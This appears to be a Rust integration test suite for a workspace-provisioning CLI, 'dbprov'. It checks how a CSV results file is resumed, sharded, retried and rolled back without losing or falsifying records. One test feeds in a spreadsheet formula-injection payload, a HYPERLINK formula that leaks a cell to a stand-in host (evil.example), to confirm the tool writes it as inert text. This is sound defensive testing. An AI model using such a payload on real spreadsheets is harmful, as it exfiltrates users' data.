//! The results file as the job's record, and a ledger: which API a row was done on
//! (`_target`), which command wrote the file (`_operation`), what counts as done, and no
//! rerun, shard, target, edited cell or lost list that loses or falsifies a record, so that
//! `rollback` of it always leaves exactly the workspaces that existed before the first run.

use std::collections::BTreeSet;

use dbprov::sandbox::FaultConfig;

use crate::common::{
    Api, JobDir, ResultRow, assert_one_row_per_input_row, by_row, holding_seeded, methods,
    row_numbers, set_flag, tenants, workspace_counts,
};
use crate::fixture::{Job, RESULTS};
use crate::hostile::{Hostile, HostileState, hostile_args};
use crate::process::{Finished, dbprov, dbprov_with};

#[tokio::test]
async fn a_results_file_is_itself_a_valid_input_file() {
    let job = Job::new().await;
    let input = job.input("name,connectionType,owner\na,MULTI_DATAMART,ops\n");
    job.run(&["run", &input]).await;
    std::fs::rename(job.dir.path("results.csv"), job.dir.path("first.csv")).unwrap();
    let first = job.dir.path("first.csv");
    let run = job.run(&["run", first.to_str().unwrap()]).await;
    assert_eq!(run.exit, 0, "{}", run.stderr);
    let (header, rows) = job.dir.results("results.csv");
    assert_eq!(
        header[10..],
        ["name", "connectionType", "owner"],
        "no result columns twice"
    );
    assert_eq!(rows[0]["_status"], "exists");
    assert_eq!(rows[0]["owner"], "ops");
}

#[tokio::test]
async fn a_dry_run_neither_counts_as_done_nor_changes_earlier_results() {
    let job = Job::new().await;
    let input = job.input(&tenants("t", 3));
    let plan = job.run(&["run", &input, "--dry-run"]).await;
    assert_eq!(plan.exit, 0);
    let planned = std::fs::read_to_string(job.dir.path("results.csv")).unwrap();

    let refused = job.run(&["run", &input, "--dry-run", "--resume"]).await;
    assert_eq!(refused.exit, 2);
    assert!(
        refused.stderr.contains("a dry run does not change"),
        "{}",
        refused.stderr
    );
    assert_eq!(
        std::fs::read_to_string(job.dir.path("results.csv")).unwrap(),
        planned
    );

    // Planned rows are still to do: a resume sends them.
    let real = job.run(&["run", &input, "--resume"]).await;
    assert_eq!(real.exit, 0, "{}", real.stderr);
    assert_eq!(job.requests().await, 3);
}

#[tokio::test]
async fn a_rehearsals_successes_are_sent_again_into_a_new_file_and_the_target_is_recorded() {
    let job = Job::new().await;
    let input = job.input(&tenants("t", 20));
    let results = job.path("results.csv");
    let rehearsal = dbprov(&[
        "run",
        &input,
        "--sandbox",
        "-o",
        &results,
        "--rate",
        "unlimited",
    ])
    .await;
    assert_eq!(rehearsal.exit, 0, "{}", rehearsal.stderr);
    let (header, rows) = job.dir.results("results.csv");
    assert_eq!(
        header[..10],
        [
            "_row",
            "_status",
            "_error_code",
            "_error_message",
            "_http_status",
            "_attempts",
            "_latency_ms",
            "_finished_at",
            "_target",
            "_operation"
        ]
    );
    assert!(rows.iter().all(|r| r["_target"] == "sandbox"), "{rows:?}");

    // The same job against another API, given with a trailing slash: the rehearsal's
    // file is not continued (it holds another API's records), a new one is written.
    let mut args = job.args("results.csv");
    set_flag(&mut args, "--base-url", &format!("{}/", job.sandbox.url()));
    let refused = dbprov_with(&["run", &input, "--resume"], &args).await;
    assert_eq!(refused.exit, 2, "{}", refused.stderr);
    assert!(
        refused.stderr.contains("Give a new -o"),
        "{}",
        refused.stderr
    );
    assert_eq!(job.requests().await, 0);
    std::fs::rename(&results, job.path("rehearsal.csv")).unwrap();
    let real = dbprov_with(&["run", &input, "--resume"], &args).await;
    assert_eq!(real.exit, 0, "{}", real.stderr);
    assert_eq!(
        job.writes().await,
        20,
        "every row is sent to the new target"
    );
    let rows = job.rows();
    assert_one_row_per_input_row(&rows, 20);
    for row in &rows {
        assert_eq!(row["_status"], "created");
        assert_eq!(
            row["_target"],
            job.sandbox.url(),
            "without the trailing '/'"
        );
    }

    assert_eq!(workspace_counts(&job.api).await.len(), 20);

    // Against the same target (now without the slash), nothing is sent.
    set_flag(&mut args, "--base-url", &job.sandbox.url());
    let again = dbprov_with(&["run", &input, "--resume"], &args).await;
    assert_eq!(again.exit, 0, "{}", again.stderr);
    assert_eq!(job.writes().await, 20);
    let kept = job.rows();
    assert_eq!(by_row(&kept), by_row(&rows), "every row kept as it was");
}

#[tokio::test]
async fn a_dry_run_records_no_target() {
    let dir = JobDir::new();
    let input = dir.write("in.csv", &tenants("t", 3));
    let results = dir.path("plan.csv");
    let plan = dbprov(&[
        "run",
        &input,
        "--dry-run",
        "--sandbox",
        "-o",
        results.to_str().unwrap(),
    ])
    .await;
    assert_eq!(plan.exit, 0, "{}", plan.stderr);
    let (_, rows) = dir.results("plan.csv");
    assert_one_row_per_input_row(&rows, 3);
    assert!(
        rows.iter()
            .all(|r| r["_status"] == "planned" && r["_target"].is_empty()),
        "{rows:?}"
    );
}

/// A results file with the outcomes of sent requests, five rows created: the job, its input,
/// and the file's bytes.
async fn sent_outcomes() -> (Job, String, Vec<u8>) {
    let job = Job::new().await;
    let input = job.input(&tenants("t", 5));
    let first = job.run(&["run", &input]).await;
    assert_eq!(first.exit, 0, "{}", first.stderr);
    let bytes = std::fs::read(job.dir.path("results.csv")).unwrap();
    (job, input, bytes)
}

#[tokio::test]
async fn a_dry_run_never_replaces_sent_outcomes() {
    let (job, input, before) = sent_outcomes().await;
    let plan = job.run(&["run", &input, "--dry-run"]).await;
    assert_eq!(plan.exit, 2, "{}", plan.stderr);
    assert_eq!(std::fs::read(job.dir.path("results.csv")).unwrap(), before);
}

#[tokio::test]
async fn a_plain_run_never_replaces_sent_outcomes_without_overwrite() {
    let (job, input, before) = sent_outcomes().await;
    let plain = job.run(&["run", &input]).await;
    assert_eq!(plain.exit, 2, "{}", plain.stderr);
    assert!(
        plain.stderr.contains("--overwrite") && plain.stderr.contains("--resume"),
        "says what to do instead: {}",
        plain.stderr
    );
    assert_eq!(std::fs::read(job.dir.path("results.csv")).unwrap(), before);
    assert_eq!(job.writes().await, 5, "nothing sent");

    let overwrite = job.run(&["run", &input, "--overwrite"]).await;
    assert_eq!(overwrite.exit, 0, "{}", overwrite.stderr);
    assert_eq!(job.writes().await, 10, "sent again");
    let rows = job.rows();
    assert_one_row_per_input_row(&rows, 5);
    assert!(rows.iter().all(|r| r["_status"] == "exists"), "{rows:?}");
}

#[tokio::test]
async fn a_plain_run_may_replace_a_plan() {
    let job = Job::new().await;
    let input = job.input(&tenants("t", 5));
    let plan = job.run(&["run", &input, "--dry-run"]).await;
    assert_eq!(plan.exit, 0, "{}", plan.stderr);
    let real = job.run(&["run", &input]).await;
    assert_eq!(
        real.exit, 0,
        "planned rows are no sent outcomes: {}",
        real.stderr
    );
    assert_eq!(job.writes().await, 5);
    let rows = job.rows();
    assert!(rows.iter().all(|r| r["_status"] == "created"));
}

#[tokio::test]
async fn one_api_spelled_two_ways_is_one_target() {
    let job = Job::new().await;
    let input = job.input(&tenants("t", 5));
    let mut args = job.args("results.csv");
    let first = dbprov_with(&["run", &input, "--resume"], &args).await;
    assert_eq!(first.exit, 0, "{}", first.stderr);
    let shouted = format!("{}/", job.sandbox.url().replace("http://", "HTTP://"));
    set_flag(&mut args, "--base-url", &shouted);
    let again = dbprov_with(&["run", &input, "--resume"], &args).await;
    assert_eq!(again.exit, 0, "{}", again.stderr);
    assert_eq!(job.writes().await, 5, "nothing sent again");
    let rows = job.rows();
    assert!(rows.iter().all(|r| r["_status"] == "created"), "{rows:?}");
}

#[tokio::test]
async fn a_results_file_is_continued_only_by_the_command_that_wrote_it() {
    let job = Job::new().await;
    let input = job.dir.write("t.csv", &tenants("t", 4));
    assert_eq!(job.run_to(Some("r.csv"), &["run", &input]).await.exit, 0);
    let before = methods(&job.api).await.len();
    // An update resumed into a run's results would keep its `created` rows as done and
    // update nothing.
    for command in ["update", "delete"] {
        let refused = job
            .run_to(Some("r.csv"), &[command, &input, "--resume"])
            .await;
        assert_eq!(refused.exit, 2, "{}", refused.stderr);
        assert!(
            refused.stderr.contains("holds the results of `dbprov run`"),
            "{}",
            refused.stderr
        );
    }
    assert_eq!(methods(&job.api).await.len(), before, "nothing sent");
}

#[tokio::test]
async fn a_delete_does_not_continue_an_updates_file() {
    let job = Job::holding(&["t-0001", "t-0002"]).await;
    let input = job.dir.write("t.csv", &tenants("t", 2));
    assert_eq!(job.run_to(Some("x.csv"), &["update", &input]).await.exit, 0);
    let delete = job
        .run_to(Some("x.csv"), &["delete", "--yes", &input, "--resume"])
        .await;
    assert_eq!(delete.exit, 2, "{}", delete.stderr);
    assert!(!methods(&job.api).await.contains(&"DELETE".to_owned()));
}

#[tokio::test]
async fn results_are_in_input_order_whatever_the_order_rows_finish_in() {
    let job = Job::with_faults(dbprov::sandbox::FaultConfig {
        latency: std::time::Duration::from_millis(1),
        jitter: std::time::Duration::from_millis(20),
        fail_rate: 0.3,
        ..Default::default()
    })
    .await;
    let input = job.input(&tenants("order", 60));
    let mut args = job.args("out.csv");
    args.extend(["--concurrency", "8", "--max-attempts", "1"].map(str::to_owned));
    let run = dbprov_with(&["run", &input], &args).await;
    assert!(run.exit <= 1, "{}", run.stderr);
    let rows = job.rows_of("out.csv");
    assert_eq!(row_numbers(&rows), (1..=60).collect::<Vec<_>>());
    // A retry of the failures puts them back in their places too.
    let failed = rows.iter().filter(|r| r["_status"] == "failed").count();
    assert!(failed > 0, "the faults leave failures to retry");
    args.drain(0..2);
    let out = job.dir.path("out.csv");
    let retry = dbprov_with(&["retry", out.to_str().unwrap()], &args).await;
    assert!(retry.exit <= 1, "{}", retry.stderr);
    let rows = job.rows_of("out.csv");
    assert_eq!(row_numbers(&rows), (1..=60).collect::<Vec<_>>());
}

/// The names of the workspaces the sandbox holds.
async fn names(api: &Api) -> BTreeSet<String> {
    api.workspace_names().await.into_iter().collect()
}

/// Rolls back the results file `file` of the job's folder against its sandbox.
async fn rollback(job: &Job, file: &str) -> Finished {
    let path = job.path(file);
    job.run_to(
        None,
        &[
            "rollback",
            &path,
            "--yes",
            "-o",
            &job.path("undo.csv"),
            "--overwrite",
        ],
    )
    .await
}

fn rows_named<'a>(rows: &'a [ResultRow], name: &str) -> Vec<&'a ResultRow> {
    rows.iter().filter(|r| r["name"] == name).collect()
}

#[tokio::test]
async fn a_file_written_by_one_shard_is_not_continued_by_another() {
    let job = Job::new().await;
    let input = job.input(&tenants("s", 20));
    let first = job.run(&["run", &input, "--shard", "1/2"]).await;
    assert_eq!(first.exit, 0, "{}", first.stderr);
    let before = std::fs::read(job.path(RESULTS)).unwrap();
    let written = job.rows().len();
    let other = job
        .run(&["run", &input, "--resume", "--shard", "0/2"])
        .await;
    assert_eq!(other.exit, 2, "{}", other.stderr);
    assert!(
        other
            .stderr
            .contains("continued only by the shard that wrote it")
            && other.stderr.contains("--shard 1/2"),
        "{}",
        other.stderr
    );
    let unsharded = job.run(&["run", &input, "--resume"]).await;
    assert_eq!(
        unsharded.exit, 0,
        "a run without --shard may grow it: {}",
        unsharded.stderr
    );
    assert_eq!(job.rows().len(), 20);
    // Now it holds both shards' rows: neither shard may continue it, in place or not.
    let before_retry = std::fs::read(job.path(RESULTS)).unwrap();
    let retry = job
        .run_to(None, &["retry", &job.path(RESULTS), "--shard", "0/2"])
        .await;
    assert_eq!(retry.exit, 2, "{}", retry.stderr);
    assert!(retry.stderr.contains("several shards"), "{}", retry.stderr);
    assert_eq!(std::fs::read(job.path(RESULTS)).unwrap(), before_retry);
    assert!(written < 20 && before.len() < before_retry.len());
    let undo = rollback(&job, RESULTS).await;
    assert_eq!(undo.exit, 0, "{}", undo.stderr);
    assert!(
        names(&job.api).await.is_empty(),
        "every workspace was the job's"
    );
}

#[tokio::test]
async fn a_file_of_one_api_is_not_continued_against_another_spelling_or_a_rehearsal() {
    let job = Job::new().await;
    let input = job.input(&tenants("t", 12));
    let first = job.run(&["run", &input]).await;
    assert_eq!(first.exit, 0, "{}", first.stderr);
    let recorded = std::fs::read(job.path(RESULTS)).unwrap();
    // The same sandbox, spelled `localhost`.
    let mut args = job.args(RESULTS);
    let localhost = job.sandbox.url().replace("127.0.0.1", "localhost");
    set_flag(&mut args, "--base-url", &localhost);
    let spelled = dbprov_with(&["run", &input, "--resume"], &args).await;
    assert_eq!(spelled.exit, 2, "{}", spelled.stderr);
    assert!(
        spelled.stderr.contains("holds the records of one API")
            && spelled.stderr.contains(&localhost)
            && spelled.stderr.contains("Give a new -o"),
        "{}",
        spelled.stderr
    );
    // A rehearsal into production's file.
    let rehearsal = dbprov(&[
        "run",
        &input,
        "--sandbox",
        "--resume",
        "-o",
        &job.path(RESULTS),
    ])
    .await;
    assert_eq!(rehearsal.exit, 2, "{}", rehearsal.stderr);
    assert!(
        rehearsal.stderr.contains("--sandbox"),
        "{}",
        rehearsal.stderr
    );
    let retry = dbprov_with(&["retry", &job.path(RESULTS)], &args[2..]).await;
    assert_eq!(retry.exit, 2, "{}", retry.stderr);
    assert_eq!(
        std::fs::read(job.path(RESULTS)).unwrap(),
        recorded,
        "untouched"
    );
    assert_eq!(
        job.requests().await,
        12,
        "nothing more was sent than the 12 creates"
    );
    let undo = rollback(&job, RESULTS).await;
    assert_eq!(undo.exit, 0, "{}", undo.stderr);
    assert!(names(&job.api).await.is_empty());
}

#[tokio::test]
async fn records_of_names_not_in_the_input_stay_in_the_file() {
    let job = Job::holding(&["old-1"]).await;
    let input = job.input(&tenants("t", 10));
    let first = job.run(&["run", &input]).await;
    assert_eq!(first.exit, 0, "{}", first.stderr);
    // A truncated export: the header alone.
    let header_only = job.dir.write(
        "empty.csv",
        "name,connectionType,datasourceName,datamartName\n",
    );
    let nothing = job.run(&["run", &header_only, "--resume"]).await;
    assert_eq!(nothing.exit, 0, "{}", nothing.stderr);
    assert!(
        nothing.stderr.contains("not in this input: 10 records"),
        "{}",
        nothing.stderr
    );
    assert!(
        nothing.stderr.contains("truncated export"),
        "warned: {}",
        nothing.stderr
    );
    let rows = job.rows();
    assert_eq!(rows.len(), 10);
    assert!(rows.iter().all(|r| r["_status"] == "created"), "{rows:?}");
    // A list that dropped three tenants and gained one: theirs stay, after the input's.
    let all = tenants("t", 10);
    let mut shorter: Vec<&str> = all.lines().collect();
    shorter.drain(2..5);
    let mut shorter = shorter.join("\n");
    shorter.push_str("\nnew-1,MULTI_DATASOURCE,,\n");
    let changed = job.dir.write("changed.csv", &shorter);
    let second = job.run(&["run", &changed, "--resume"]).await;
    assert_eq!(second.exit, 0, "{}", second.stderr);
    let rows = job.rows();
    assert_eq!(rows.len(), 11, "8 kept, 1 new, 3 no longer in the input");
    let tail: Vec<&str> = rows[8..].iter().map(|r| r["name"].as_str()).collect();
    assert_eq!(tail, ["t-0002", "t-0003", "t-0004"]);
    assert!(rows[8..].iter().all(|r| r["_status"] == "created"));
    let undo = rollback(&job, RESULTS).await;
    assert_eq!(undo.exit, 0, "{}", undo.stderr);
    assert_eq!(names(&job.api).await, BTreeSet::from(["old-1".to_owned()]));
}

#[tokio::test]
async fn a_created_record_stands_when_its_resend_settles_nothing() {
    // The list lags: it does not show the workspaces a first run made, and their re-sent
    // POSTs get no answer in time.
    let hostile = Hostile::start(HostileState::default()).await;
    let job = Job::new().await;
    let names_made: Vec<String> = (1..=5).map(|i| format!("lag-{i}")).collect();
    let input = job.input(&format!(
        "name,connectionType\n{}",
        names_made
            .iter()
            .map(|n| format!("{n},MULTI_DATASOURCE\n"))
            .collect::<String>()
    ));
    let mut args = hostile_args(&hostile, &job.dir, RESULTS);
    args.retain(|a| a != "--no-preflight");
    let first = dbprov_with(&["run", &input], &args).await;
    assert_eq!(first.exit, 0, "{}", first.stderr);
    assert!(job.rows().iter().all(|r| r["_status"] == "created"));
    {
        let mut unlisted = hostile.state.unlisted.lock().unwrap();
        let mut slow = hostile.state.slow_next_post.lock().unwrap();
        for name in &names_made {
            unlisted.insert(name.clone());
            slow.insert(name.clone());
        }
    }
    // A new tenant makes the rerun list the workspaces (with nothing to send, it would
    // send nothing, not even the list).
    let input = job.dir.write(
        "more.csv",
        &std::fs::read_to_string(&input).unwrap().replace(
            "lag-1,MULTI_DATASOURCE\n",
            "lag-1,MULTI_DATASOURCE\nlag-new,MULTI_DATASOURCE\n",
        ),
    );
    let mut lagging = args.clone();
    lagging.extend(["--timeout", "300ms", "--max-attempts", "1"].map(str::to_owned));
    let second = dbprov_with(&["run", &input, "--resume"], &lagging).await;
    assert_eq!(
        second.exit, 1,
        "the re-sends settled nothing: {}",
        second.stderr
    );
    let rows = job.rows();
    assert_eq!(rows.len(), 6);
    for row in rows.iter().filter(|r| r["name"] != "lag-new") {
        assert_eq!(row["_status"], "created", "{row:?}");
        assert!(
            row["_error_message"].contains("so this record stands"),
            "{row:?}"
        );
    }
    // The list shows them again: kept as created, and a rollback deletes every one.
    hostile.state.unlisted.lock().unwrap().clear();
    let third = dbprov_with(&["run", &input, "--resume"], &args).await;
    assert_eq!(third.exit, 0, "{}", third.stderr);
    assert!(job.rows().iter().all(|r| r["_status"] == "created"));
    let undo = dbprov_with(
        &[
            "rollback",
            &job.path(RESULTS),
            "--yes",
            "-o",
            &job.path("undo.csv"),
        ],
        &args[2..],
    )
    .await;
    assert_eq!(undo.exit, 0, "{}", undo.stderr);
    assert!(hostile.state.existing.lock().unwrap().is_empty());
}

#[tokio::test]
async fn without_a_list_a_name_taken_after_a_lost_answer_is_not_claimed() {
    // Every name exists before the run; half the first POSTs answer 500 without effect.
    let existing: Vec<String> = (1..=12).map(|i| format!("t-{i:04}")).collect();
    let faults = FaultConfig {
        fail_rate: 0.5,
        ..FaultConfig::default()
    };
    let job = Job::on(holding_seeded(&existing, faults, 3).await);
    let input = job.input(&tenants("t", 12));
    let run = job.run(&["run", &input, "--max-attempts", "8"]).await;
    assert_eq!(run.exit, 0, "{}", run.stderr);
    let rows = job.rows();
    assert!(rows.iter().all(|r| r["_status"] == "exists"), "{rows:?}");
    let unsure = rows.iter().filter(|r| r["_attempts"] != "1").count();
    assert!(unsure > 0, "some first POST failed: {rows:?}");
    assert!(
        rows.iter()
            .filter(|r| r["_attempts"] != "1")
            .all(|r| r["_error_message"].contains("this run may have created it")),
        "{rows:?}"
    );
    job.sandbox.set_fault_rates(0.0, 0.0, 0.0).unwrap();
    let undo = rollback(&job, RESULTS).await;
    assert_eq!(undo.exit, 0, "{}", undo.stderr);
    assert_eq!(names(&job.api).await.len(), 12, "none was deleted");
}

#[tokio::test]
async fn a_kept_record_keeps_the_values_it_was_sent_with() {
    let job = Job::new().await;
    let dark = job.dir.write(
        "dark.csv",
        "name,connectionType,themeName\nAcme,MULTI_DATASOURCE,dark\n",
    );
    let first = job.run(&["run", &dark]).await;
    assert_eq!(first.exit, 0, "{}", first.stderr);
    let corporate = job.dir.write(
        "corporate.csv",
        "name,connectionType,themeName\nAcme,MULTI_DATASOURCE,corporate\n",
    );
    let requests = job.requests().await;
    let second = job.run(&["run", &corporate, "--resume"]).await;
    assert_eq!(second.exit, 0, "{}", second.stderr);
    assert!(
        second.stderr.contains("values changed since sent: 1"),
        "{}",
        second.stderr
    );
    assert_eq!(job.requests().await, requests, "nothing was sent");
    let theme = |job: &Job| {
        let job = job.api.clone();
        async move {
            job.get("/_sandbox/workspaces").await[0]["themeName"]
                .as_str()
                .unwrap()
                .to_owned()
        }
    };
    assert_eq!(theme(&job).await, "dark");
    assert_eq!(
        job.rows()[0]["themeName"],
        "dark",
        "the record says what it has"
    );
    // With --on-exists update, the new values are PUT: the workspace stays the job's.
    let third = job
        .run(&["run", &corporate, "--resume", "--on-exists", "update"])
        .await;
    assert_eq!(third.exit, 0, "{}", third.stderr);
    assert_eq!(theme(&job).await, "corporate");
    let row = &job.rows()[0];
    assert_eq!(
        (row["_status"].as_str(), row["themeName"].as_str()),
        ("created", "corporate"),
        "{row:?}"
    );
    let undo = rollback(&job, RESULTS).await;
    assert_eq!(undo.exit, 0, "{}", undo.stderr);
    assert!(names(&job.api).await.is_empty());
}

#[tokio::test]
async fn retry_reads_the_operation_from_its_column_never_from_a_message() {
    let job = Job::holding(&["del-1", "del-2", "del-3"]).await;
    let input = job.input("name\ndel-1\ndel-2\ndel-3\n");
    job.sandbox.set_fault_rates(1.0, 0.0, 0.0).unwrap();
    let delete = job
        .run(&["delete", "--yes", &input, "--max-attempts", "1"])
        .await;
    assert_eq!(delete.exit, 1, "{}", delete.stderr);
    job.sandbox.set_fault_rates(0.0, 0.0, 0.0).unwrap();
    // An operator tidies the file: every message cleared, one made to look like a run's.
    let path = job.path(RESULTS);
    let mut reader = csv::Reader::from_path(&path).unwrap();
    let header = reader.headers().unwrap().clone();
    let at = header.iter().position(|h| h == "_error_message").unwrap();
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(&header).unwrap();
    for (i, record) in reader.records().enumerate() {
        let record = record.unwrap();
        let tidied: Vec<&str> = record
            .iter()
            .enumerate()
            .map(|(c, cell)| match (c == at, i) {
                (true, 0) => "run: ",
                (true, _) => "",
                (false, _) => cell,
            })
            .collect();
        writer.write_record(&tidied).unwrap();
    }
    std::fs::write(&path, writer.into_inner().unwrap()).unwrap();
    let writes = job.writes().await;
    let retry = job.run_to(None, &["retry", &path]).await;
    assert_eq!(retry.exit, 0, "{}", retry.stderr);
    assert_eq!(job.writes().await, writes, "no POST, no PUT");
    assert!(job.rows().iter().all(|r| r["_status"] == "deleted"));
    assert!(names(&job.api).await.is_empty());
    // A cleared _operation is not guessed.
    let text = std::fs::read_to_string(&path)
        .unwrap()
        .replace(",delete,", ",,");
    std::fs::write(&path, text).unwrap();
    let unsure = job.run_to(None, &["retry", &path]).await;
    assert_eq!(unsure.exit, 2, "{}", unsure.stderr);
    assert!(unsure.stderr.contains("_operation"), "{}", unsure.stderr);
}

#[tokio::test]
async fn update_and_delete_take_names_exactly() {
    let job = Job::holding(&["Globex", "Trail Co"]).await;
    let input = job.input(
        "name,connectionType\n\"Globex \",MULTI_DATASOURCE\n\" Trail Co\",MULTI_DATASOURCE\n",
    );
    for command in [&["delete", "--yes"][..], &["update"][..]] {
        let run = job.run(&[command, &[&input, "--overwrite"]].concat()).await;
        assert_eq!(run.exit, 1, "{}", run.stderr);
        let rows = job.rows();
        assert!(
            rows.iter()
                .all(|r| r["_status"] == "invalid" && r["_error_code"] == "INVALID_NAME"),
            "{rows:?}"
        );
    }
    assert_eq!(job.writes().await, 0);
    assert_eq!(job.requests().await, 0, "no DELETE either");
    assert_eq!(names(&job.api).await.len(), 2);
}

#[tokio::test]
async fn formulas_are_written_as_text_and_read_back_as_the_names_they_were() {
    let job = Job::new().await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&J3,"Click")"#;
    let input = job.input(&format!(
        "name,connectionType,owner\n\"{}\",MULTI_DATASOURCE,@SUM(1+1)\n\"'=quoted\",MULTI_DATASOURCE,-1\n",
        hyperlink.replace('"', "\"\"")
    ));
    // For a spreadsheet too (a dry run, so that nothing is created twice).
    for (command, file) in [
        (vec!["run", &input], RESULTS),
        (vec!["run", &input, "--excel", "--dry-run"], "excel.csv"),
    ] {
        let run = job.run_to(Some(file), &command).await;
        assert_eq!(run.exit, 0, "{}", run.stderr);
        let text = String::from_utf8(std::fs::read(job.path(file)).unwrap()).unwrap();
        assert!(
            !text.contains(",\"=HYPERLINK") && !text.contains(",=HYPERLINK"),
            "{text}"
        );
        assert!(
            text.contains("'=HYPERLINK") && text.contains("'@SUM(1+1)"),
            "{text}"
        );
        assert!(
            text.contains("''=quoted") && text.contains(",'-1"),
            "{text}"
        );
    }
    let names_now = names(&job.api).await;
    assert!(
        names_now.contains(hyperlink) && names_now.contains("'=quoted"),
        "{names_now:?}"
    );
    // Read back as the names they were: kept, not sent again, and rolled back by name.
    let writes = job.writes().await;
    let resume = job.run(&["run", &input, "--resume"]).await;
    assert_eq!(resume.exit, 0, "{}", resume.stderr);
    assert_eq!(job.writes().await, writes);
    let undo = rollback(&job, RESULTS).await;
    assert_eq!(undo.exit, 0, "{}", undo.stderr);
    assert!(names(&job.api).await.is_empty());
}

#[tokio::test]
async fn a_malformed_row_keeps_every_cell_of_its_line() {
    let job = Job::new().await;
    let input = job.input("name,connectionType,owner\nAcme,MULTI_DATASOURCE,ops@acme.example,extra\nGlobex,MULTI_DATASOURCE,x\n");
    let run = job.run(&["run", &input]).await;
    assert_eq!(run.exit, 1, "{}", run.stderr);
    let row = &rows_named(&job.rows(), "Acme")[0].clone();
    assert_eq!(row["_error_code"], "MALFORMED_ROW");
    assert!(
        row["_error_message"].contains("Acme,MULTI_DATASOURCE,ops@acme.example,extra"),
        "{row:?}"
    );
    let undo = rollback(&job, RESULTS).await;
    assert_eq!(undo.exit, 0, "{}", undo.stderr);
    assert!(names(&job.api).await.is_empty());
}

#[tokio::test]
async fn concurrency_is_bounded_before_any_request() {
    let job = Job::new().await;
    let input = job.input(&tenants("t", 3));
    for absurd in ["18446744073709551615", "0", "4097"] {
        let mut args = job.args(RESULTS);
        args.extend(["--concurrency".to_owned(), absurd.to_owned()]);
        let run = dbprov_with(&["run", &input], &args).await;
        assert_eq!(run.exit, 2, "{absurd}: {}", run.stderr);
        assert!(run.stderr.contains("1 to 4096"), "{}", run.stderr);
    }
    assert_eq!(job.requests().await, 0);
}

#[tokio::test]
async fn a_name_too_long_for_a_url_is_invalid_and_sends_nothing() {
    let job = Job::new().await;
    let long = "n".repeat(100_000);
    let input = job.input(&format!("name\n{long}\nshort\n"));
    let run = job.run(&["delete", "--yes", &input]).await;
    assert_eq!(run.exit, 1, "{}", run.stderr);
    let rows = job.rows();
    let row = rows.iter().find(|r| r["name"] == long).unwrap();
    assert_eq!(
        (
            row["_status"].as_str(),
            row["_error_code"].as_str(),
            row["_attempts"].as_str()
        ),
        ("invalid", "INVALID_NAME", "0")
    );
    assert!(
        row["_error_message"].len() < 300,
        "{}",
        row["_error_message"].len()
    );
    assert!(
        !run.stderr.contains("ABORTED_UNREACHABLE"),
        "{}",
        run.stderr
    );
    assert_eq!(job.requests().await, 1, "only the short name's DELETE");
}
